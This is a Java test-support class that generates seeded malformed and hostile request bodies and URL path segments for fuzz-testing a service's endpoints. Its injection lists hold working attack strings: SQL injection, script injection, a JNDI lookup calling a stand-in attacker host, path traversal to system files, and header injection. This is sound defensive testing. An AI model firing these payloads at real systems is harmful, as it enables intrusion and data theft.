package io.limber.local.testing;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Seeded generator of malformed and hostile inputs for the services' fuzz tests: request bodies derived from a
 * valid example body (one field at a time made hostile, or the whole document broken) and URL-ready path segments.
 * The same seed gives the same inputs, so a failing input can be found again.
 */
public final class HostileInputs {

    /** One input: what it is (for the report), the body, and the content type to send it with. */
    public record Body(String description, String json, String contentType) {
        public static final String JSON = "application/json";

        @Override
        public String toString() {
            String shown = json.length() > 120 ? json.substring(0, 120) + "…(" + json.length() + " chars)" : json;
            return description + ": " + shown;
        }
    }

    /** Strings that attack something downstream: SQL, HTML, log lookups, paths, encodings, direction marks. */
    public static final List<String> INJECTIONS = List.of(
            "'; drop table plan; --",
            "\" OR 1=1 --",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "a\u0000b",
            "\u202Eevil\u202C",
            "💥🧘‍♀️🦴",
            "%00",
            "%s%s%s%n",
            "\r\nX-Injected: 1",
            "{{7*7}}",
            "",
            " ",
            "\uFEFF");

    /** Time zones that do not exist or are not zone ids. */
    public static final List<String> BAD_TIME_ZONES = List.of(
            "Mars/Olympus_Mons", "Europe/Atlantis", "UTC+25:00", "GMT+99", "+99:99", "Local", "europe/amsterdam ");

    /** Dates and times that do not exist or are not dates. */
    public static final List<String> BAD_TIMES = List.of(
            "0000-13-45", "2026-02-30", "2026-11-24T25:61:00Z", "99999-01-01", "-0001-01-01", "24:00", "20:30:99",
            "yesterday", "2026/11/24", "1e9");

    private static final int HUGE_STRING_CHARS = 1_000_000;
    private static final int DEEP_NESTING_LEVELS = 10_000;
    private static final int TEN_MEGABYTES = 10 * 1024 * 1024;

    private final Random random;

    public HostileInputs(long seed) {
        this.random = new Random(seed);
    }

    /**
     * {@code count} hostile bodies derived from {@code validExample} (a JSON document). Always includes, once
     * each, the whole-document attacks (truncated, 10,000-deep nesting, duplicate keys, wrong content types,
     * empty, not JSON, wrong top-level type) before the field-level ones. Never includes the 10 MB body: ask
     * {@link #tenMegabyteBody(String)} for that, once per endpoint at most.
     */
    public List<Body> bodies(String validExample, int count) {
        Object example = Json.parse(validExample);
        List<Path> paths = new ArrayList<>();
        collectPaths(example, new ArrayList<>(), paths);
        List<Body> bodies = new ArrayList<>(documentAttacks(validExample));
        while (bodies.size() < count) {
            bodies.add(fieldAttack(example, paths));
        }
        return bodies.subList(0, Math.max(count, 0));
    }

    /** A syntactically valid JSON body of just over 10 MB: the example with one huge extra string field. */
    public Body tenMegabyteBody(String validExample) {
        Object example = Json.parse(validExample);
        String padding = "x".repeat(TEN_MEGABYTES);
        Object body = example instanceof Map<?, ?> map ? with(map, "padding", padding) : List.of(example, padding);
        return new Body("10 MB body", Json.write(body), Body.JSON);
    }

    /**
     * {@code count} URL-ready path segments (already percent-encoded where needed; send them with URL encoding
     * off): very long ids, encoded NUL and slashes, unicode, injection strings.
     */
    public List<String> pathSegments(int count) {
        List<String> fixed = List.of(
                "x".repeat(5_000),
                "%00",
                "a%00b",
                "..%2F..%2Fetc%2Fpasswd",
                "%2e%2e",
                "%27%3B%20drop%20table%20plan%3B%20--",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "%24%7Bjndi%3Aldap%3A%2F%2Fattacker%2Fa%7D",
                "%E2%80%AEevil",
                "%F0%9F%92%A5",
                "%C3%A9l%C3%A8ve",
                "%FF%FE",
                "%",
                "%zz",
                "%20",
                "-1",
                "99999999999999999999999");
        List<String> segments = new ArrayList<>(fixed.subList(0, Math.min(count, fixed.size())));
        while (segments.size() < count) {
            segments.add(randomSegment());
        }
        return segments;
    }

    private String randomSegment() {
        return switch (random.nextInt(4)) {
            case 0 -> percentEncode(pick(INJECTIONS)) + random.nextInt(1000);
            case 1 -> "u" + "%E2%80%AE".repeat(1 + random.nextInt(50));
            case 2 -> "id-" + "9".repeat(200 + random.nextInt(4_000));
            default -> percentEncode(randomUnicode(1 + random.nextInt(40)));
        };
    }

    private List<Body> documentAttacks(String validExample) {
        List<Body> attacks = new ArrayList<>();
        String trimmed = validExample.strip();
        attacks.add(new Body("truncated JSON", trimmed.substring(0, Math.max(1, trimmed.length() / 2)), Body.JSON));
        attacks.add(new Body("truncated JSON (last char)", trimmed.substring(0, trimmed.length() - 1), Body.JSON));
        attacks.add(new Body("10,000-deep arrays", "[".repeat(DEEP_NESTING_LEVELS) + "]".repeat(DEEP_NESTING_LEVELS),
                Body.JSON));
        attacks.add(new Body("10,000-deep objects",
                "{\"a\":".repeat(DEEP_NESTING_LEVELS) + "1" + "}".repeat(DEEP_NESTING_LEVELS), Body.JSON));
        attacks.add(new Body("duplicate keys", duplicateFirstKey(trimmed), Body.JSON));
        attacks.add(new Body("content type text/plain", trimmed, "text/plain"));
        attacks.add(new Body("content type application/xml", "<plan><x>1</x></plan>", "application/xml"));
        attacks.add(new Body("content type form", "a=1&b=2", "application/x-www-form-urlencoded"));
        attacks.add(new Body("empty body", "", Body.JSON));
        attacks.add(new Body("JSON null", "null", Body.JSON));
        attacks.add(new Body("top-level array", "[" + trimmed + "]", Body.JSON));
        attacks.add(new Body("top-level string", "\"" + INJECTIONS.get(0) + "\"", Body.JSON));
        attacks.add(new Body("top-level number", "-1e999", Body.JSON));
        attacks.add(new Body("not JSON", "'; drop table plan; --", Body.JSON));
        attacks.add(new Body("NUL bytes", "\u0000\u0000\u0000", Body.JSON));
        attacks.add(new Body("trailing garbage", trimmed + "}}}", Body.JSON));
        attacks.add(new Body("comments", "/* x */" + trimmed, Body.JSON));
        attacks.add(new Body("single quotes", trimmed.replace('"', '\''), Body.JSON));
        attacks.add(new Body("1 MB key", "{\"" + "k".repeat(HUGE_STRING_CHARS) + "\":1}", Body.JSON));
        attacks.add(new Body("invalid UTF-8 escape", trimmed.replaceFirst("\"", "\"\\\\uD800\\\\x"), Body.JSON));
        return attacks;
    }

    private static String duplicateFirstKey(String json) {
        if (!json.startsWith("{") || json.length() < 3) {
            return "{\"a\":1,\"a\":2}";
        }
        // Repeats the whole body's members once more inside the same object: every key appears twice.
        String members = json.substring(1, json.length() - 1);
        return "{" + members + "," + members + "}";
    }

    private Body fieldAttack(Object example, List<Path> paths) {
        Path target = paths.get(random.nextInt(paths.size()));
        int kind = random.nextInt(10);
        if (kind == 0 && !target.steps().isEmpty()) {
            return new Body("removed " + target, Json.write(remove(example, target.steps(), 0)), Body.JSON);
        }
        if (kind == 1 && target.steps().isEmpty()) {
            return new Body("unknown member", Json.write(example instanceof Map<?, ?> m
                    ? with(m, "unexpected" + random.nextInt(100), pick(INJECTIONS)) : example), Body.JSON);
        }
        Hostile value = hostileValue(target.value());
        return new Body(value.what() + " at " + target, Json.write(replace(example, target.steps(), 0, value.value())),
                Body.JSON);
    }

    private record Hostile(String what, Object value) {
    }

    private Hostile hostileValue(Object original) {
        return switch (random.nextInt(12)) {
            case 0 -> new Hostile("injection", pick(INJECTIONS));
            case 1 -> new Hostile("1 MB string", "A".repeat(HUGE_STRING_CHARS));
            case 2 -> new Hostile("negative number", -1 - random.nextInt(1_000_000));
            case 3 -> new Hostile("absurd number", pick(List.of(Long.MAX_VALUE, Long.MIN_VALUE, 2_147_483_648L,
                    999_999_999_999L, 1e308, -0.5, 11, -1, 0)));
            case 4 -> new Hostile("pain out of range", pick(List.of(11, -1, 100, 10.5)));
            case 5 -> new Hostile("unknown time zone", pick(BAD_TIME_ZONES));
            case 6 -> new Hostile("bad date or time", pick(BAD_TIMES));
            case 7 -> new Hostile("wrong type", wrongType(original));
            case 8 -> new Hostile("null", null);
            case 9 -> new Hostile("nested", nested(20 + random.nextInt(200)));
            case 10 -> new Hostile("random unicode", randomUnicode(1 + random.nextInt(300)));
            default -> new Hostile("huge array", hugeArray());
        };
    }

    private Object wrongType(Object original) {
        List<Object> candidates = new ArrayList<>(List.of(true, 42, "forty-two", List.of(1, "two"),
                Map.of("nested", "object"), 3.5));
        candidates.removeIf(c -> original != null && c.getClass() == original.getClass());
        return pick(candidates);
    }

    private static Object nested(int levels) {
        Object value = "deep";
        for (int i = 0; i < levels; i++) {
            value = i % 2 == 0 ? List.of(value) : Map.of("x", value);
        }
        return value;
    }

    private Object hugeArray() {
        List<Object> values = new ArrayList<>();
        int size = 10_000 + random.nextInt(40_000);
        for (int i = 0; i < size; i++) {
            values.add(i % 3 == 0 ? "MONDAY" : i);
        }
        return values;
    }

    private String randomUnicode(int length) {
        StringBuilder text = new StringBuilder();
        while (text.length() < length) {
            int codePoint = switch (random.nextInt(5)) {
                case 0 -> random.nextInt(0x20);                 // control characters, NUL included
                case 1 -> 0x202A + random.nextInt(5);           // bidirectional overrides
                case 2 -> 0x1F300 + random.nextInt(0x300);      // emoji
                case 3 -> 0x4E00 + random.nextInt(0x5000);      // CJK
                default -> 0x20 + random.nextInt(0x5F);         // printable ASCII
            };
            text.appendCodePoint(codePoint);
        }
        return text.toString();
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String percentEncode(String text) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xFF;
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '_') {
                encoded.append((char) c);
            } else {
                encoded.append('%').append(String.format("%02X", c));
            }
        }
        return encoded.toString();
    }

    // ---- the example document as a tree: where a value can be replaced ----

    private record Path(List<Object> steps, Object value) {
        @Override
        public String toString() {
            StringBuilder text = new StringBuilder("$");
            for (Object step : steps) {
                text.append(step instanceof Integer i ? "[" + i + "]" : "." + step);
            }
            return text.toString();
        }
    }

    private static void collectPaths(Object node, List<Object> steps, List<Path> paths) {
        paths.add(new Path(List.copyOf(steps), node));
        if (node instanceof Map<?, ?> map) {
            for (Map.Entry<?, ?> entry : map.entrySet()) {
                steps.add(entry.getKey());
                collectPaths(entry.getValue(), steps, paths);
                steps.remove(steps.size() - 1);
            }
        } else if (node instanceof List<?> list) {
            for (int i = 0; i < list.size(); i++) {
                steps.add(i);
                collectPaths(list.get(i), steps, paths);
                steps.remove(steps.size() - 1);
            }
        }
    }

    private static Object replace(Object node, List<Object> steps, int depth, Object value) {
        if (depth == steps.size()) {
            return value;
        }
        Object step = steps.get(depth);
        if (node instanceof Map<?, ?> map) {
            Map<Object, Object> copy = new LinkedHashMap<>(map);
            copy.put(step, replace(map.get(step), steps, depth + 1, value));
            return copy;
        }
        List<Object> copy = new ArrayList<>((List<?>) node);
        int index = (Integer) step;
        copy.set(index, replace(copy.get(index), steps, depth + 1, value));
        return copy;
    }

    private static Object remove(Object node, List<Object> steps, int depth) {
        Object step = steps.get(depth);
        if (node instanceof Map<?, ?> map) {
            Map<Object, Object> copy = new LinkedHashMap<>(map);
            if (depth == steps.size() - 1) {
                copy.remove(step);
            } else {
                copy.put(step, remove(map.get(step), steps, depth + 1));
            }
            return copy;
        }
        List<Object> copy = new ArrayList<>((List<?>) node);
        int index = (Integer) step;
        if (depth == steps.size() - 1) {
            copy.remove(index);
        } else {
            copy.set(index, remove(copy.get(index), steps, depth + 1));
        }
        return copy;
    }

    private static Map<Object, Object> with(Map<?, ?> map, String key, Object value) {
        Map<Object, Object> copy = new LinkedHashMap<>(map);
        copy.put(key, value);
        return copy;
    }

    /** Counts answers by status class for one endpoint, for the fuzz tests' report. */
    public static final class Tally {

        public enum StatusClass { S2XX, S3XX, S4XX, S5XX, OTHER }

        private final String endpoint;
        private final Map<StatusClass, Integer> counts = new EnumMap<>(StatusClass.class);
        private int sent;

        public Tally(String endpoint) {
            this.endpoint = endpoint;
        }

        public void record(int status) {
            sent++;
            StatusClass statusClass = switch (status / 100) {
                case 2 -> StatusClass.S2XX;
                case 3 -> StatusClass.S3XX;
                case 4 -> StatusClass.S4XX;
                case 5 -> StatusClass.S5XX;
                default -> StatusClass.OTHER;
            };
            counts.merge(statusClass, 1, Integer::sum);
        }

        public int sent() {
            return sent;
        }

        public int count(StatusClass statusClass) {
            return counts.getOrDefault(statusClass, 0);
        }

        @Override
        public String toString() {
            return String.format("%-45s sent %5d   2xx %4d   4xx %5d   5xx %3d   other %3d", endpoint, sent,
                    count(StatusClass.S2XX), count(StatusClass.S4XX), count(StatusClass.S5XX),
                    count(StatusClass.S3XX) + count(StatusClass.OTHER));
        }
    }

    /** Just enough JSON to take a valid example apart and write mutated copies of it. */
    static final class Json {

        private final String text;
        private int at;

        private Json(String text) {
            this.text = text;
        }

        static Object parse(String text) {
            Json json = new Json(text);
            Object value = json.value();
            json.skipSpace();
            if (json.at != text.length()) {
                throw json.error("trailing characters");
            }
            return value;
        }

        static String write(Object value) {
            StringBuilder out = new StringBuilder();
            write(value, out);
            return out.toString();
        }

        private static void write(Object value, StringBuilder out) {
            if (value == null) {
                out.append("null");
            } else if (value instanceof String s) {
                writeString(s, out);
            } else if (value instanceof Map<?, ?> map) {
                out.append('{');
                boolean first = true;
                for (Map.Entry<?, ?> entry : map.entrySet()) {
                    if (!first) {
                        out.append(',');
                    }
                    first = false;
                    writeString(String.valueOf(entry.getKey()), out);
                    out.append(':');
                    write(entry.getValue(), out);
                }
                out.append('}');
            } else if (value instanceof List<?> list) {
                out.append('[');
                for (int i = 0; i < list.size(); i++) {
                    if (i > 0) {
                        out.append(',');
                    }
                    write(list.get(i), out);
                }
                out.append(']');
            } else if (value instanceof Double d && (d.isInfinite() || d.isNaN())) {
                out.append("1e999");
            } else {
                out.append(value);
            }
        }

        private static void writeString(String s, StringBuilder out) {
            out.append('"');
            for (int i = 0; i < s.length(); i++) {
                char c = s.charAt(i);
                switch (c) {
                    case '"' -> out.append("\\\"");
                    case '\\' -> out.append("\\\\");
                    case '\n' -> out.append("\\n");
                    case '\r' -> out.append("\\r");
                    case '\t' -> out.append("\\t");
                    default -> {
                        if (c < 0x20) {
                            out.append(String.format("\\u%04x", (int) c));
                        } else {
                            out.append(c);
                        }
                    }
                }
            }
            out.append('"');
        }

        private Object value() {
            skipSpace();
            if (at >= text.length()) {
                throw error("unexpected end");
            }
            char c = text.charAt(at);
            return switch (c) {
                case '{' -> object();
                case '[' -> array();
                case '"' -> string();
                case 't' -> literal("true", Boolean.TRUE);
                case 'f' -> literal("false", Boolean.FALSE);
                case 'n' -> literal("null", null);
                default -> number();
            };
        }

        private Map<String, Object> object() {
            Map<String, Object> map = new LinkedHashMap<>();
            at++;
            skipSpace();
            if (peek() == '}') {
                at++;
                return map;
            }
            while (true) {
                skipSpace();
                String key = string();
                skipSpace();
                expect(':');
                map.put(key, value());
                skipSpace();
                char c = next();
                if (c == '}') {
                    return map;
                }
                if (c != ',') {
                    throw error("expected , or }");
                }
            }
        }

        private List<Object> array() {
            List<Object> list = new ArrayList<>();
            at++;
            skipSpace();
            if (peek() == ']') {
                at++;
                return list;
            }
            while (true) {
                list.add(value());
                skipSpace();
                char c = next();
                if (c == ']') {
                    return list;
                }
                if (c != ',') {
                    throw error("expected , or ]");
                }
            }
        }

        private String string() {
            expect('"');
            StringBuilder out = new StringBuilder();
            while (true) {
                char c = next();
                if (c == '"') {
                    return out.toString();
                }
                if (c == '\\') {
                    char e = next();
                    switch (e) {
                        case 'n' -> out.append('\n');
                        case 'r' -> out.append('\r');
                        case 't' -> out.append('\t');
                        case 'b' -> out.append('\b');
                        case 'f' -> out.append('\f');
                        case 'u' -> {
                            out.append((char) Integer.parseInt(text.substring(at, at + 4), 16));
                            at += 4;
                        }
                        default -> out.append(e);
                    }
                } else {
                    out.append(c);
                }
            }
        }

        private Object number() {
            int start = at;
            while (at < text.length() && "+-0123456789.eE".indexOf(text.charAt(at)) >= 0) {
                at++;
            }
            String n = text.substring(start, at);
            if (n.isEmpty()) {
                throw error("unexpected character");
            }
            if (n.contains(".") || n.contains("e") || n.contains("E")) {
                return Double.parseDouble(n);
            }
            long value = Long.parseLong(n);
            return value >= Integer.MIN_VALUE && value <= Integer.MAX_VALUE ? (Object) (int) value : (Object) value;
        }

        private Object literal(String word, Object value) {
            if (!text.startsWith(word, at)) {
                throw error("expected " + word);
            }
            at += word.length();
            return value;
        }

        private void skipSpace() {
            while (at < text.length() && Character.isWhitespace(text.charAt(at))) {
                at++;
            }
        }

        private char peek() {
            return at < text.length() ? text.charAt(at) : '\0';
        }

        private char next() {
            if (at >= text.length()) {
                throw error("unexpected end");
            }
            return text.charAt(at++);
        }

        private void expect(char c) {
            if (next() != c) {
                throw error("expected " + c);
            }
        }

        private IllegalArgumentException error(String what) {
            return new IllegalArgumentException("example is not valid JSON (" + what + " at " + at + ")");
        }
    }
}
